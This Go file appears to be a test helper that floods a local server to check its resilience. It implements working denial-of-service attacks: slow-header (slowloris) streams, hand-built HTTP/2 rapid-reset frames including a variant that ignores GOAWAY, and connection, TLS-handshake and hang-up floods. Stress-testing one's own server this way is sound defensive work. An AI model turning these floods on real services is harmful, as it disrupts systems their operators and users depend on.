package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// longest bounds a flooder that nobody ends.
const longest = 10 * time.Minute

// flood is one kind of attack. Its workers run until ctx ends.
type flood struct {
	name    string
	secure  bool
	unit    string // what is counted
	workers int
	run     func(ctx context.Context, a *attack, i int)
}

var floods = []flood{
	{"slow headers", false, "header bytes", 10_000, slowHeaders},
	{"resets", false, "streams", 4, resets},
	{"deaf resets", false, "streams", 4, deafResets},
	{"resets over TLS", true, "streams", 4, resets},
	{"connects", false, "connections", 4, connects},
	{"handshakes", true, "handshakes", 4, handshakes},
	{"hang-ups", false, "calls", 16, hangUps},
}

// attack is a flood under way.
type attack struct {
	flood
	connections, refused, units, goAways atomic.Int64
}

// done is what a flooder says of itself.
type done struct {
	Units       int64  `json:"units"`
	Unit        string `json:"unit"`
	Connections int64  `json:"connections"`
	Refused     int64  `json:"refused,omitempty"` // connections that could not be opened
	GoAways     int64  `json:"goaways,omitempty"`
}

func (a *attack) done() done {
	return done{a.units.Load(), a.unit, a.connections.Load(), a.refused.Load(), a.goAways.Load()}
}

// beFlooder floods the target until stdin ends. It says that the flood is under way,
// then answers each line with what it has done, and says it once more at the end.
func beFlooder(name string) error {
	a := &attack{}
	for _, f := range floods {
		if f.name == name {
			a.flood = f
		}
	}
	if a.run == nil {
		return fmt.Errorf("there is no flood %q", name)
	}
	ctx, stop := context.WithTimeout(context.Background(), longest)
	defer stop()
	var all sync.WaitGroup
	for i := range a.workers {
		all.Go(func() {
			for ctx.Err() == nil {
				a.run(ctx, a, i)
			}
		})
	}
	for a.connections.Load()+a.refused.Load() < int64(a.workers) && ctx.Err() == nil {
		time.Sleep(10 * time.Millisecond)
	}
	out := json.NewEncoder(os.Stdout)
	out.Encode("flooding") //nolint:errcheck // nobody listens: then stdin has ended, too
	for lines := bufio.NewScanner(os.Stdin); lines.Scan() && ctx.Err() == nil; {
		out.Encode(a.done()) //nolint:errcheck
	}
	stop()
	all.Wait()
	return out.Encode(a.done())
}

// dial opens a connection from an address that is not the callers'. It is closed when
// ctx ends, if not before.
func (a *attack) dial(ctx context.Context, i int) (c *net.TCPConn, hangUp func()) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, byte(2+i%10))}}
	if a.workers < 10_000 {
		d.LocalAddr = &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)} // one caller, one budget
	}
	raw, err := d.DialContext(ctx, "tcp", *target)
	if err != nil {
		a.refused.Add(1)
		select { // do not turn in a void
		case <-ctx.Done():
		case <-time.After(10 * time.Millisecond):
		}
		return nil, nil
	}
	a.connections.Add(1)
	c = raw.(*net.TCPConn)
	c.SetLinger(0) //nolint:errcheck // RST: no port stays taken
	stop := context.AfterFunc(ctx, func() { c.Close() })
	return c, func() { stop(); c.Close() }
}

// slowHeaders sends a byte of a header now and then, and comes back when it is
// thrown out.
func slowHeaders(ctx context.Context, a *attack, i int) {
	c, hangUp := a.dial(ctx, i)
	if c == nil {
		return
	}
	defer hangUp()
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		io.Copy(io.Discard, c) //nolint:errcheck // its end is what matters
	}()
	io.WriteString(c, "POST /execute/work/hang HTTP/1.1\r\nHost: localhost\r\nX-Slow: ") //nolint:errcheck // ended tells
	every := time.NewTicker(3 * time.Second)
	defer every.Stop()
	for {
		select {
		case <-ended:
			return
		case <-every.C:
			io.WriteString(c, "x") //nolint:errcheck // ended tells
			a.units.Add(1)
		}
	}
}

func resets(ctx context.Context, a *attack, i int)     { reset(ctx, a, i, false) }
func deafResets(ctx context.Context, a *attack, i int) { reset(ctx, a, i, true) }

// reset opens streams and resets them in the same packet, as fast as they are taken.
// When it is shown out, by GOAWAY, it comes back; where it is deaf to that, it goes on
// until it is closed.
func reset(ctx context.Context, a *attack, i int, deaf bool) {
	tcp, hangUp := a.dial(ctx, i)
	if tcp == nil {
		return
	}
	defer hangUp()
	c := net.Conn(tcp)
	if a.secure {
		c = tls.Client(tcp, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	}
	if _, err := io.WriteString(c, http2.ClientPreface+"\x00\x00\x00\x04\x00\x00\x00\x00\x00"); err != nil { // and empty SETTINGS
		return
	}
	var away atomic.Bool
	go func() {
		in := bufio.NewReader(c)
		var head [9]byte
		for {
			if _, err := io.ReadFull(in, head[:]); err != nil {
				return
			}
			if http2.FrameType(head[3]) == http2.FrameGoAway && !away.Swap(true) {
				a.goAways.Add(1)
			}
			if _, err := in.Discard(int(head[0])<<16 | int(head[1])<<8 | int(head[2])); err != nil {
				return
			}
		}
	}()
	const batch = 32
	pair := pair(a.secure)
	frames := make([]byte, 0, batch*len(pair))
	for id := uint32(1); id < 1<<31-2*batch && (deaf || !away.Load()); {
		frames = frames[:0]
		for range batch {
			binary.BigEndian.PutUint32(pair[5:], id)
			binary.BigEndian.PutUint32(pair[len(pair)-8:], id)
			frames = append(frames, pair...)
			id += 2
		}
		if _, err := c.Write(frames); err != nil {
			return
		}
		a.units.Add(batch)
	}
}

// pair is HEADERS and RST_STREAM of one stream, whose numbers are still to be set.
func pair(secure bool) []byte {
	const path, host = "/execute/work/hang", "localhost"
	block := []byte{0x83, 0x86} // POST, http
	if secure {
		block[1] = 0x87
	}
	block = append(append(block, 0x04, byte(len(path))), path...) // literals that are not kept
	block = append(append(block, 0x01, byte(len(host))), host...)
	frames := append([]byte{0, 0, byte(len(block)), 0x1, 0x5, 0, 0, 0, 0}, block...) // END_STREAM, END_HEADERS
	return append(frames, 0, 0, 4, 0x3, 0, 0, 0, 0, 0, 0, 0, 0, 8)                   // CANCEL
}

// connects opens a connection and closes it.
func connects(ctx context.Context, a *attack, i int) {
	if c, hangUp := a.dial(ctx, i); c != nil {
		hangUp()
		a.units.Add(1)
	}
}

// handshakes makes a connection of TLS and closes it.
func handshakes(ctx context.Context, a *attack, i int) {
	c, hangUp := a.dial(ctx, i)
	if c == nil {
		return
	}
	defer hangUp()
	if tls.Client(c, &tls.Config{InsecureSkipVerify: true}).HandshakeContext(ctx) == nil {
		a.units.Add(1)
	}
}

// hangUps makes calls over HTTP/1 and hangs up before they are answered.
func hangUps(ctx context.Context, a *attack, i int) {
	c, hangUp := a.dial(ctx, i)
	if c == nil {
		return
	}
	defer hangUp()
	io.WriteString(c, "POST /execute/work/hang HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n") //nolint:errcheck // it is broken off anyway
	c.SetReadDeadline(time.Now().Add(time.Millisecond))                                                   //nolint:errcheck
	var one [1]byte
	c.Read(one[:]) //nolint:errcheck // a refusal, or nothing
	a.units.Add(1)
}
